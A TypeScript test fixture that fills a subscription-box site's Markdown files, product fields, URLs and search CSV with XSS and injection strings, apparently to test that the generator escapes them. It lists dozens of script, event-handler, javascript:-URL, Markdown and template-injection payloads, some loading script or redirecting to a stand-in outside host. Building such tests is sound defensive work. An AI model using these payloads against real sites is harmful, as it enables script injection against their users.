/** A box in whose every field and body stands what would run, ask or lead somewhere if a page let it. */
import { stringify } from 'yaml';

/** Where nothing of a page may ever lead or ask. */
const ELSEWHERE = 'zqxelsewhere.example';

/** What would run shows a dialog with this in it. */
const ALERT = 'zqxran';

const RUN = `alert('${ALERT}')`;
const FROM = `https://${ELSEWHERE}/`;

/**
 * Texts by the place that they try to leave: an element's text, an attribute, a comment, a style, a script of data, a
 * template, an address, XML, a line of a letter. Written for this test, in the manner of the usual lists.
 */
export const VECTORS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `--><img src=x onerror=${RUN}>`,
  `<img src="${FROM}a.png" onerror="${RUN}">`,
  `"><svg onload=${RUN}>`,
  `'><svg/onload=${RUN}>`,
  `" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `\` onload=\`${RUN}`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<object data="${FROM}b"></object><embed src="${FROM}c">`,
  `<meta http-equiv=refresh content="0;url=${FROM}d">`,
  `<base href="${FROM}">`,
  `<link rel=stylesheet href="${FROM}e.css">`,
  `</style><style>@import url(${FROM}f.css);</style>`,
  `</style><script>${RUN}</script>`,
  `;background:url(${FROM}g.png)`,
  `<details open ontoggle=${RUN}>`,
  `<video autoplay onloadstart=${RUN}><source src="${FROM}h.mp4" onerror=${RUN}></video>`,
  `<math><mtext></p><style><img src=x onerror=${RUN}></style></mtext></math>`,
  `<form action="${FROM}"><button formaction="javascript:${RUN}" autofocus onfocus=${RUN}>x</button></form>`,
  `<template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<textarea></textarea><script>${RUN}</script>`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<body onload=${RUN}>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `]]><script>${RUN}</script><![CDATA[`,
  `\${${RUN}} {{${RUN}}} <%= ${RUN} %> <%~ ${RUN} %>`,
  `'-${RUN}-'`,
  `";${RUN};//`,
  `\\';${RUN};//`,
  `*/${RUN}/*`,
  `<svg><script href="${FROM}i.js"></script><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<x\u0000y onclick=${RUN}>`.replace('\u0000', '\u00a0'),
  `<scr\u0131pt>${RUN}</scr\u0131pt>`,
  `\u202e<script>${RUN}</script>\u202c`,
  `＜script＞${RUN}＜/script＞`,
];

/** Story texts: what Markdown might let through besides. */
const MARKDOWN: readonly string[] = [
  `[x](javascript:${RUN})`,
  `[x](  JaVaScRiPt:${RUN})`,
  `[x](&#x6A;avascript:${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `<javascript:${RUN}>`,
  `[x][y]\n\n[y]: javascript:${RUN} "t"`,
  `[x](vbscript:x) [x](https://crumb.example/ "\\" onfocus=${RUN} autofocus x=\\"")`,
  `\`\`\`html" onload="${RUN}\n<script>${RUN}</script>\n\`\`\``,
  `| a |\n|---|\n| <script>${RUN}</script> |`,
  `# <img src=x onerror=${RUN}>`,
  `x[^1]\n\n[^1]: <script>${RUN}</script> [y](javascript:${RUN})`,
  `:::script\n${RUN}\n:::`,
  `:script[${RUN}]{onload="${RUN}"}`,
];

const BOX_PIECES = ['article', 'invitation', 'live', 'letter', 'clip', 'cards'];

const record = (fields: object, body: string): string => `---\n${stringify(fields)}---\n\n${body}\n`;

export interface HostileBox {
  /** By path below the folder that holds `content/`. */
  readonly files: Readonly<Record<string, string>>;
  /** Texts that stand in a field or a body. */
  readonly places: number;
}

/** A box of three cycles, with every text of `vectors` in some field; the last is sealed as of 27 March 2026. */
export const hostileBox = (vectors: readonly string[] = VECTORS): HostileBox => {
  let places = 0;
  let bodies = 0;
  let next = 0;
  const one = (): string => {
    places += 1;
    return vectors[next++ % vectors.length] ?? '';
  };
  const bounded = (most: number): string => {
    for (;;) {
      const text = one();
      if ([...text].length <= most) return text;
    }
  };
  const body = (): string => {
    bodies += 1;
    const third = vectors.filter((_, i) => i % 3 === bodies % 3);
    places += MARKDOWN.length + third.length;
    return [...MARKDOWN, ...third].join('\n\n');
  };
  const files: Record<string, string> = {
    'content/box.md': record(
      {
        name: bounded(120),
        url: 'https://crumb.example/',
        lang: 'en-GB',
        timeZone: 'Europe/London',
        currency: 'GBP',
        description: bounded(160),
        author: bounded(120),
        email: 'ada@crumb.example',
        every: 'P1M',
        palette: ['#5f7358'],
        pieces: BOX_PIECES,
        unsubscribe: "{{' onfocus=alert(1) autofocus x='}}",
        postalAddress: { streetAddress: one(), addressLocality: one(), postalCode: one() },
        subscription: { name: bounded(150), price: '29.00', description: one() },
        calls: {
          join: { address: `https://crumb.example/?a='"%3E%3Cscript%3E${RUN}`, text: bounded(120) },
          spare: { address: 'https://crumb.example/spare', text: bounded(120) },
        },
        call: 'join',
      },
      body(),
    ),
  };
  for (const [number, month] of ['2026-02', '2026-03', '2026-04'].entries()) {
    const folder = `content/cycles/${month}`;
    files[`${folder}/cycle.md`] = record(
      {
        theme: bounded(120),
        ...(number % 2 === 0 && { title: bounded(150) }),
        summary: one(),
        shipped: `${month}-03`,
        reveal: `${month}-19T19:00`,
        author: bounded(120),
        replay: { address: "https://crumb.example/'%22onload=x", beats: { hook: '0:00' } },
        live: {
          layOut: [one()],
          wear: one(),
          hook: one(),
          greet: [one()],
          about: one(),
          chosen: one(),
          mishap: one(),
          questions: [one(), one()],
          whole: one(),
          peek: one(),
          call: one(),
          goodbye: one(),
        },
        invitation: { hook: one() },
        peek: { text: one() },
        voices: [{ text: one(), name: bounded(120), consent: `${month}-20` }],
        letter: { subject: bounded(150), preheader: one() },
      },
      body(),
    );
    for (const thing of [1, 2])
      files[`${folder}/items/0${thing}-thing-${thing}.md`] = record(
        {
          name: bounded(150),
          kind: thing === 1 ? 'tea <img src=x onerror=alert(1)> tin' : bounded(90),
          also: [one(), one()],
          ...(thing === 1 ? { lead: true } : { goesWith: one() }),
          brand: bounded(120),
          description: bounded(180),
          material: [one(), one()],
          color: one(),
          size: one(),
          weight: one(),
          care: one(),
          sku: one(),
          price: '18.50',
          spare: {
            count: 3,
            price: '18.50',
            address: 'https://crumb.example/?x=%22%3E',
            until: '2026-12-31',
          },
          category: ['food', 'cosmetic', 'plant', 'children'],
          allergens: ['milk'],
          mayContain: [one()],
          ingredients: one(),
          toxicTo: [one()],
          minAge: 3,
          hazards: [one()],
          cautions: [one()],
        },
        body(),
      );
  }
  files['content/searches.csv'] =
    `phrase,count\n${vectors.map((text, i) => `"${text.replaceAll('"', '""')}",${i + 1}`).join('\n')}\n`;
  return { files, places: places + vectors.length };
};
